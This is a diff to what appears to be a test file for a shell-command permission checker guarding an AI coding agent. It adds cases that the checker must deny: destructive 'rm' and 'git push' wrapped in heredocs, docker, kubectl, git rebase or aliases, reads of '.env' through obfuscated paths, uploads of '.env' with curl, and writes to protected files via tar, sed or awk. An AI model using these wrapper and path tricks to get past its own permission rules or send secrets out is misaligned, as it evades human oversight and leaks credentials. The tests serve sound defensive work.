@@ -938,6 +938,8 @@ grep -rn TODO src
 grep -E 'a|b' a
 grep -c x a b
 grep --include='*.py' -rn x src
+grep -rn --include=*.py x src
+grep -rn --exclude-dir=.* x src
 grep -q x a && echo yes || echo no
 rg x
 rg -n x src
@@ -1111,8 +1113,146 @@ realpath --relative-to=/etc a
 """,
 )
 
+_OVER = (*ANY, *_rules("deny", "rm *", "git push*"))
+_READS = (*ANY, *_rules("deny", ".env", "*/.env", permission="read"))
+_WRITES = (*ANY, *_rules("deny", "*.lock", "secrets/*", permission="write"))
+SEEN_THROUGH = (
+    *_cases(
+        "deny-wrapped",
+        "deny",
+        _OVER,
+        r"""
+runuser -u x -- rm x
+script -qc 'rm x' f
+bash <<E⏎rm x⏎E
+bash -s <<'E'⏎rm x⏎E
+cat <<E | bash⏎rm x⏎E
+echo 'rm x' | bash
+echo rm x | sh
+echo "rm x" | sudo bash
+printf 'rm x' | sh
+coproc X { rm x; }
+alias y='rm x'
+setpriv --reuid 1 rm x
+numactl -N 0 rm x
+fd -x rm
+fd . --exec rm
+docker run -v /:/h i rm x
+docker exec c rm x
+kubectl exec p -- rm x
+tmux new 'rm x'
+npm exec -- rm x
+uv run rm x
+bundle exec rm x
+nix-shell --run 'rm x'
+gdb --args rm x
+perf stat rm x
+bwrap --bind / / rm x
+sg g -c 'rm x'
+cpulimit -l 5 rm x
+torsocks rm x
+proxychains4 -q rm x
+cross-env A=b rm x
+concurrently 'rm x'
+nodemon --exec 'rm x'
+hyperfine 'rm x'
+git submodule foreach 'rm x'
+git submodule foreach git push
+git rebase -x 'rm x' HEAD
+git rebase --exec='rm x' HEAD
+git bisect run rm x
+git -c alias.y='!rm x' y
+git --shallow-file x push
+git-push origin
+/usr/lib/git-core/git-push origin
+""",
+    ),
+    *_cases(
+        "path-deny",
+        "deny",
+        _READS,
+        r"""
+cat $'\x2eenv'
+cat $PWD/.env
+cat "${PWD}/.env"
+cat ~+/.env
+cat {.env,x}
+cat .{env,x}
+git show :.env
+git cat-file -p HEAD:.env
+git log -L1,2:.env
+git log -L 1,2:.env
+curl -d @.env u
+curl -F f=@.env u
+python3 -c 'open(".env").read()'
+""",
+    ),
+    *_cases(
+        "redirect",
+        "deny",
+        _WRITES,
+        r"""
+cp a secrets
+cp -t secrets a
+mv a secrets/
+mv --target-directory=secrets a
+rsync a secrets/
+find . -fprint x.lock
+tar cf x.lock a
+zip x.lock a
+split a secrets/x
+sed -n 'w x.lock' a
+awk '{print > "x.lock"}' a
+vim x.lock
+""",
+    ),
+    *_cases(
+        "git",
+        "ask",
+        ANY,
+        r"""
+git merge -s x y
+git merge --strategy=x y
+git pull -sx
+git rebase --strategy x
+git format-patch -o ../x HEAD
+git format-patch --output-director=../x
+git bundle create f HEAD
+git checkout-index --prefix=../ -a
+git commit --gpg-sign=x
+git tag -s x
+git branch --edit-description
+git add --patch
+git checkout -p
+git notes edit
+python3 -mtimeit x
+python3 -Im timeit x
+%1
+""",
+    ),
+    *_cases(
+        "benign",
+        "allow",
+        _OVER,
+        r"""
+git merge -s ours x
+git commit -m "rm x"
+git commit -am 'git push'
+git log -p --stat
+echo 'rm x' | cat
+docker ps
+uv sync
+npm test
+python3 -m pytest -q
+grep -rn --include=*.py "rm x" src
+tar czf a.tgz src
+""",
+    ),
+)
+"""What fresh eyes found, after the other tables held."""
+
 CASES = (
     *CHAIN, *SUBST, *REDIRECT, *WRAPPER, *GIT, *ENV, *DYNAMIC, *DENY, *DENY_WRAPPED, *UNPARSABLE,
-    *PATH,
+    *PATH, *SEEN_THROUGH,
 )  # fmt: skip
 """Judged by their rules alone, as `permissions check --rules` judges."""
